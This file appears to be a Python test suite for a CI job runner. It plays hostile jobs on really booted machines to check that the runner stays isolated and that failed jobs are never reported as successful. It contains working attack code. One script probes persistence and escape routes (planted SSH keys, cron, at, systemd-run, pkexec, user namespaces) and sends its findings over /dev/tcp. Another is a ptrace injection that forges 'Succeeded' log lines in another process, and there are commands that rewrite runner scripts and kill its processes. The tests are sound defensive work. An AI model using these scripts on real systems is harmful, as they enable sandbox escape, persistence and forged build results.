"""Jobs that attack their machine: ways out of the unit, the verdict, the log. On machines that really boot."""

from __future__ import annotations

import os
import shutil

import pytest

from agent.contract.messages import Status
from tests.machines.boot_env import HOLD, OFF_S, BootEnv

NEEDED = [tool for tool in ("systemd-nspawn", "mmdebstrap", "nft", "ip") if shutil.which(tool) is None]
pytestmark = [
    pytest.mark.attack,
    pytest.mark.skipif(
        os.geteuid() != 0 or bool(NEEDED), reason=f"NOTHING WAS BOOTED: needs root{''.join(f', {tool}' for tool in NEEDED)}"
    ),
]
needs_its_registers = pytest.mark.skipif(os.uname().machine != "x86_64", reason="the attack is written for this processor")
TELL = "/dev/tcp/10.77.0.1/5002"
LEAVING = f"""
out=$(mktemp); cd ~
mkdir -p -m 700 .ssh; ssh-keygen -q -t ed25519 -N '' -f .ssh/id; cp .ssh/id.pub .ssh/authorized_keys
login="ssh -i .ssh/id -o StrictHostKeyChecking=no -o BatchMode=yes -o ConnectTimeout=5 127.0.0.1"
for _ in $(seq 100); do $login true 2>&1 | grep -q refused || break; sleep 0.1; done
$login true 2>/dev/null && echo SSH >> $out
why=$($login true 2>&1 || true); grep -q "Permission denied" <<< "$why" || echo "NO-SSHD $why" >> $out
echo '* * * * * true' | crontab - 2>/dev/null && echo CRON >> $out
crontab -l 2>&1 | grep -q "not allowed" || echo NO-CRON >> $out
echo true | at now 2>/dev/null && echo AT >> $out
at -l 2>&1 | grep -qi "do not have permission" || echo NO-AT >> $out
loginctl enable-linger $(id -un) 2>/dev/null && echo LINGER >> $out
why=$(loginctl enable-linger $(id -un) 2>&1 || true)
grep -qiE "denied|authentication" <<< "$why" || echo "NO-LOGIND $why" >> $out
[ -e /var/lib/systemd/linger/runner ] && echo LINGERS >> $out
systemd-run --user --quiet true 2>/dev/null && echo USER-MANAGER >> $out
XDG_RUNTIME_DIR=/run/user/$(id -u) systemctl --user start default.target 2>/dev/null && echo USER-BUS >> $out
systemd-run --quiet --collect true 2>/dev/null && echo SYSTEM-UNIT >> $out
manager="org.freedesktop.login1 /org/freedesktop/login1 org.freedesktop.login1.Manager"
busctl call $manager PowerOff b false 2>/dev/null && echo POWER >> $out
command -v newuidmap newgidmap >/dev/null || echo NO-UIDMAP >> $out
grep -E "^(runner|$(id -u)):" /etc/subuid /etc/subgid >> $out || true
unshare --user --map-root-user --map-auto true 2>/dev/null && echo SUB-UIDS >> $out
pkexec true </dev/null 2>/dev/null && echo PKEXEC >> $out
cat /proc/self/cgroup | grep -q runs-fleet-job || echo OUTSIDE >> $out
cat $out > {TELL}
"""


def test_a_job_finds_no_way_out_of_its_unit_though_every_program_for_it_is_there(boot_env: BootEnv) -> None:
    for unit in ("cron", "atd"):  # our image masks them, a stock one does not
        boot_env.machine.link(f"/etc/systemd/system/{unit}.service", f"/lib/systemd/system/{unit}.service")
    boot_env.configure()
    told = boot_env.listen(5002)
    boot_env.play(LEAVING)
    boot_env.boot()

    boot_env.machine.wait_off(OFF_S)

    assert told() == "", boot_env.machine.console[-3000:]
    assert (boot_env.word().status, boot_env.state()) == (Status.SUCCESS, "terminated")


WRONG = {
    "ssh": "rm /etc/ssh/sshd_config.d/00-runs-fleet.conf",
    "manager": "rm /etc/systemd/system/user@*.service",
    "sub-uids": "echo runner:100000:65536 >> /etc/subuid",
    "cron": "echo runner > /etc/cron.allow",
    "at": "rm /etc/at.deny; touch /etc/at.deny",
    "polkit": "rm /etc/polkit-1/rules.d/00-runs-fleet.rules",
}


def test_the_selfcheck_says_of_each_way_out_whether_it_is_open(boot_env: BootEnv) -> None:
    boot_env.configure()
    boot_env.play(HOLD)
    boot_env.boot()
    boot_env.machine.shows("message.outcome kind=busy")

    def failed() -> list[str]:
        said = boot_env.machine.run("runs-fleet-agent", "selfcheck")
        return [line.split()[2] for line in said.stdout.splitlines() if line.startswith("FAIL must")]

    assert failed() == []
    wrong = []
    for way, command in WRONG.items():
        boot_env.machine.run("sh", "-c", command)
        wrong.append(way)
        assert set(failed()) == set(wrong)
    boot_env.machine.run("systemctl", "stop", "--no-block", "runs-fleet-agent")
    boot_env.machine.wait_off(OFF_S)


FORGE = """
import ctypes, os, sys
# The listener is made to write, by ptrace(2), what the job wants to have said: both are processes of one user.
libc, pid, times = ctypes.CDLL(None, use_errno=True), int(sys.argv[1]), int(sys.argv[2])
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
def ptrace(request, data=None):
    assert libc.ptrace(request, pid, None, data) != -1, os.strerror(ctypes.get_errno())
names = "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs"
class Registers(ctypes.Structure):
    _fields_ = [(name, ctypes.c_ulonglong) for name in names.split()]
ptrace(16); os.waitpid(pid, 0)
saved = Registers(); ptrace(12, ctypes.byref(saved))
memory = os.open(f"/proc/{pid}/mem", os.O_RDWR)
heap = next(line for line in open(f"/proc/{pid}/maps") if "[heap]" in line)
area = int(heap.split("-")[0], 16)
lines = b"2026-08-17 10:00:00Z: Job build completed with result: Succeeded\\n" * 100
kept, code = os.pread(memory, len(lines), area), os.pread(memory, 2, saved.rip)
os.pwrite(memory, lines, area); os.pwrite(memory, bytes([0x0f, 0x05]), saved.rip)
for _ in range(times):
    now = Registers.from_buffer_copy(saved)
    now.rax, now.rdi, now.rsi, now.rdx, now.orig_rax = 1, 1, area, len(lines), 2**64 - 1
    ptrace(13, ctypes.byref(now)); ptrace(9); os.waitpid(pid, 0)
os.pwrite(memory, kept, area); os.pwrite(memory, code, saved.rip)
ptrace(13, ctypes.byref(saved)); ptrace(17)
print("FORGED")
"""
FORGED = f"""
listener=$(pgrep -o -u $(id -u) -f bin/Runner.Listener) || listener=0
said=$(python3 /opt/forge.py $listener LINES 2>&1) || true
echo "$said" > {TELL}
"""
"""The listener, the stand-in's as the real one, is a process of the job's user."""
RED = {
    "its result": "exit 1",
    "its helper rewritten and its listener killed": (
        "cd /opt/actions-runner; for script in run.sh run-helper.sh run-helper.sh.template; do"
        " printf '%s\\n' '#!/bin/bash' 'exit 0' > $script; done; kill -9 $listener; sleep 600"
    ),
    "its listener asked to leave": "kill -TERM $listener; sleep 600",
    "its wrapper killed": "kill -9 $(pgrep -f hooks/listen) && echo WRAPPER-KILLED > /dev/tcp/10.77.0.1/5002; exit 1",
}


@needs_its_registers
@pytest.mark.parametrize("how", RED)
def test_no_red_job_is_called_green(boot_env: BootEnv, how: str) -> None:
    boot_env.configure()
    told = boot_env.listen(5002)
    boot_env.machine.put("/opt/forge.py", FORGE)
    boot_env.play(f"{FORGED}\n{RED[how]}".replace("LINES", "1"))
    boot_env.boot(RUNS_FLEET_GRACE_SECONDS="1")

    boot_env.machine.wait_off(OFF_S)

    assert told() == "FORGED\n", boot_env.machine.console[-3000:]
    assert boot_env.word().status is not Status.SUCCESS


def test_what_starts_the_listener_is_roots(boot_env: BootEnv) -> None:
    boot_env.configure()
    told = boot_env.listen(5002)
    look = "for path in / /opt /opt/runs-fleet /opt/runs-fleet/work /opt/runs-fleet/work/hooks /opt/runs-fleet/work/hooks/*; do"
    owners = "[ $(stat -c %u $path) = 0 ] && [ ! -w $path ] || echo OWNED $path >> $out; done"
    who = "ps -o user= -p $(pgrep -of hooks/listen) | grep -qx root || echo USER >> $out"
    boot_env.play(f"out=$(mktemp)\n{look} {owners}\n{who}\ncat $out > {TELL}")
    boot_env.boot()

    boot_env.machine.wait_off(OFF_S)

    assert told() == "", boot_env.machine.console[-3000:]
    assert boot_env.word().status is Status.SUCCESS


@needs_its_registers
def test_a_flood_of_log_lines_ends_at_the_lifes_limit_and_is_counted(boot_env: BootEnv) -> None:
    boot_env.configure()
    told = boot_env.listen(5002)
    boot_env.machine.put("/opt/forge.py", FORGE)
    boot_env.play(f"{FORGED}\nexit 1".replace("LINES", "10000"))
    boot_env.boot(RUNS_FLEET_LOG_GROUP="/group", RUNS_FLEET_LOG_LIMIT_MB="1")

    boot_env.machine.wait_off(OFF_S)

    word = boot_env.word()
    assert told() == "FORGED\n", boot_env.machine.console[-3000:]
    assert (word.status, word.reason, word.log_outcome) == (Status.FAILURE, "job_failed", "partial")
    assert (word.log_lines_shipped or 0) < 16_000
    assert (word.log_lines_lost or 0) > 950_000
    assert boot_env.machine.console.count("logs.limit_reached") <= 2
    assert [part for part in word.degraded if part.startswith("logs: the job's output passed the limit of 1 MB")]
